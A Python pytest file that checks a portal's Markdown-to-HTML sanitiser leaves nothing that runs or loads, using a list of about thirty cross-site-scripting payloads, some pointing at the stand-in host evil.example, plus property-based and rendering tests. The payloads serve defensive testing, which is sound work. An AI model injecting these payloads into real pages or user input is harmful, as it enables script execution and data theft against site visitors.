"""What people write becomes harmless HTML."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.text import clean, to_html

# From the usual lists of attacks: each has run somewhere.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=q></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<p onclick=alert(1) id=main class=note>x</p>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "[x](javascript:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](https://evil.example/pixel.gif)",
    '<https://example.org/"onmouseover=alert(1)>',
    "| <img src=x onerror=alert(1)> |\n| --- |\n| [a](javascript:alert(1)) |",
]
TAGS = {
    "p", "br", "em", "strong", "ul", "ol", "li", "blockquote", "h3", "h4", "h5", "h6", "a", "code", "pre",
    "table", "thead", "tbody", "tr", "th", "td", "hr",
}  # fmt: skip
ATTRIBUTES = {"a": {"href", "title", "rel"}, "ol": {"start"}, "th": {"scope"}}


class Reader(HTMLParser):
    """Another reader than the one that cleaned it."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, "", ""))
        self.found += [(tag, name, value or "") for name, value in attrs]

    handle_startendtag = handle_starttag


def assert_harmless(html: str) -> None:
    reader = Reader()
    reader.feed(html)
    reader.close()
    for tag, name, value in reader.found:
        assert tag in TAGS, html
        assert not name or name in ATTRIBUTES.get(tag, set()), html
        if name == "href":
            scheme = value.split(":", 1)[0] if ":" in value.split("/", 1)[0] else ""
            assert scheme in {"", "http", "https", "mailto"}, html


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_or_loads_is_left(attack):
    assert_harmless(to_html(attack))
    assert_harmless(clean(attack))


@given(st.text(alphabet=st.sampled_from("<>/\"'=()[]!&#;:ajvscriptonerrhef \n|-`*_")))
def test_whatever_is_typed_is_harmless(typed):
    assert_harmless(to_html(typed))


def test_raw_html_shows_as_typed():
    assert to_html("Less < more <b>bold</b>") == "<p>Less &lt; more &lt;b&gt;bold&lt;/b&gt;</p>\n"


def test_links_stay_and_tell_nobody_where_they_came_from():
    html = to_html("[the Act](https://www.legislation.gov.uk/ukpga/1972/70)")
    assert html == (
        '<p><a href="https://www.legislation.gov.uk/ukpga/1972/70" rel="noopener noreferrer">the Act</a></p>\n'
    )


def test_headings_begin_below_the_page():
    assert to_html("# A\n\n###### B") == "<h3>A</h3>\n<h6>B</h6>\n"
    assert to_html("# A", heading_level=4) == "<h4>A</h4>\n"


def test_table_heads_say_what_they_head():
    html = to_html("| Month | Calls |\n| --- | --- |\n| July | 881 |")
    assert html.count('<th scope="col">') == 2
    assert "<td>881</td>" in html
